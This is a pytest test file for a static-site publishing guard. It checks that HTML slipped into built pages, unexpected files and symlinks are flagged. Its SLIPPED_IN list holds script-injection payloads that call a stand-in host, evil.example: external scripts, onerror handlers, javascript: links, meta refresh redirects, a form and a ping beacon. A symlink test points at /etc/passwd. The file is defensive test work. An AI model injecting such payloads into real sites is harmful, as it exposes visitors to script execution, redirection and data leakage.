"""Each file of a site as it is served: what came in after the guard had looked is found in the file itself."""

from __future__ import annotations

from pathlib import Path

import fixture_site
import pytest
from guide.safety import published


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("files")
    docs = fixture_site.write(folder)
    code, said = fixture_site.build(docs, folder / "site")
    assert code == 0, said
    return folder / "site"


def test_a_site_as_it_is_built_passes(site: Path) -> None:
    assert len(list(site.rglob("*.html"))) >= 5
    assert published.site(site) == []


SLIPPED_IN = {
    "script": "<script>alert(1)</script>",
    "script of another site": '<script src="https://evil.example/a.js"></script>',
    "script without protocol": '<script src="//evil.example/a.js"></script>',
    "script as data": '<script src="data:text/javascript,alert(1)"></script>',
    "module": '<script type="module">alert(1)</script>',
    "handler": '<img src="a.png" alt="" onerror="alert(1)">',
    "style": "<style>.urgent{display:none}</style>",
    "style attribute": '<p style="display:none">x</p>',
    "style sheet": '<link rel="stylesheet" href="https://evil.example/a.css">',
    "prefetch": '<link rel="preload" href="//evil.example/a.js" as="script">',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "refresh in noscript": '<noscript><meta http-equiv="refresh" content="0; url=//evil.example/"></noscript>',
    "second policy": '<meta http-equiv="Content-Security-Policy" content="default-src *">',
    "base": '<base href="https://evil.example/">',
    "object": '<object data="a.svg"></object>',
    "picture": '<img src="https://evil.example/a.png" alt="">',
    "frame": '<iframe src="https://evil.example/embed.html" sandbox=""></iframe>',
    "form": '<form action="https://evil.example/"><input type="text" name="q"></form>',
    "password": '<input type="password" name="q">',
    "script link": '<a href="javascript:alert(1)">x</a>',
    "ping": '<a href="index.html" ping="https://evil.example/">x</a>',
    "formula": "<math><mtext>x</mtext></math>",
    "template": '<template><p onclick="alert(1)">x</p></template>',
    "template, deep": "<template><template><iframe src='x'></iframe></template></template>",
    "template, row": '<template><tr onclick="alert(1)"></tr></template>',
    "template, picture": '<template><img src="https://evil.example/a.png"></template>',
    "template, script": "<template><script>alert(1)</script></template>",
    "animation": '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>',
}


@pytest.mark.parametrize("name", SLIPPED_IN)
@pytest.mark.parametrize("page", ["index.html", "embed.html", "404.html"])
def test_what_was_slipped_into_a_page_is_found(site: Path, page: str, name: str) -> None:
    html = (site / page).read_text("utf-8")
    hashes = published.allowed(site)
    assert published.published(page, html.encode(), hashes) == []
    for before in ("</head>", "</body>"):
        assert before in html
        spoilt = html.replace(before, SLIPPED_IN[name] + before, 1)
        assert published.published(page, spoilt.encode(), hashes), before


ARTICLE = '<h2 id="the-article">The article</h2><p>Words <a href="b.html">lead</a> on.</p>'
BEFORE = ("<article", "<body")


def around(page: str, spoil: str = "") -> str:
    """A page with an article at the place of its own, behind a piece of HTML that may spoil it."""
    for name in BEFORE:
        if (start := page.find(name)) >= 0:
            start = page.index(">", start) + 1
            return f"{page[:start]}{spoil}{ARTICLE}{page[start:]}"
    raise AssertionError("the page has no body")


@pytest.mark.parametrize("page", ["index.html", "embed.html"])
def test_an_article_that_was_passed_is_not_looked_at_again_where_it_stands_as_it_was(site: Path, page: str) -> None:
    html = around((site / page).read_text("utf-8"))
    hashes = published.allowed(site)
    assert published.published(page, html.encode(), hashes, ARTICLE) == []
    assert published.published(page, html.encode(), hashes) == []


SPOILS = [
    "<svg>", "<svg><desc>", "<svg><title>", "<template>", "<noscript>", "<textarea>", "<title>", "<!--", "<table><td>",
    "<select>", "<math>", "<a href='x.html'>", "<b>", "<div><i></div>", "<form>", "<button type='button'>", "<p>",
    "<dialog>", "<details>", "<script type='application/json'>", "<script>", "<style>", "<iframe>", "<xmp>",
    "<plaintext>", "<div title='", '<div title="',
]  # fmt: skip


@pytest.mark.parametrize("spoil", SPOILS)
def test_an_article_that_stands_elsewhere_than_it_was_looked_at_is_named(site: Path, spoil: str) -> None:
    html = around((site / "index.html").read_text("utf-8"), spoil)
    hashes = published.allowed(site)
    assert published.published("index.html", html.encode(), hashes, ARTICLE)


def test_an_article_that_stands_twice_or_was_changed_is_named(site: Path) -> None:
    html = around((site / "index.html").read_text("utf-8"))
    hashes = published.allowed(site)
    for wrong in (around(html), html.replace("Words <a", "Words  <a"), html.replace(ARTICLE, "")):
        assert published.published("index.html", wrong.encode(), hashes, ARTICLE)


@pytest.mark.parametrize(
    "path",
    [
        "robots.txt", "ads.txt", "sw.js", "assets/sw.js", "service-worker.js", "note.json", "note.txt", "a.pdf",
        "a.html~", "site.webmanifest", "crossdomain.xml",
        ".htaccess", ".well-known/security.txt", "assets/a.css", "x.svg", "a.png",
        "search/other.json", "oembed.json", "index.html",
    ],
)  # fmt: skip
def test_a_file_that_no_step_writes_is_found(path: str) -> None:
    assert published.published(path, b"@import url(//evil.example/a.css)", frozenset())


def test_a_link_in_the_site_is_found(site: Path) -> None:
    link = site / "link.md"
    link.symlink_to("/etc/passwd")
    try:
        assert [problem.path for problem in published.site(site)] == ["site/link.md"]
    finally:
        link.unlink()
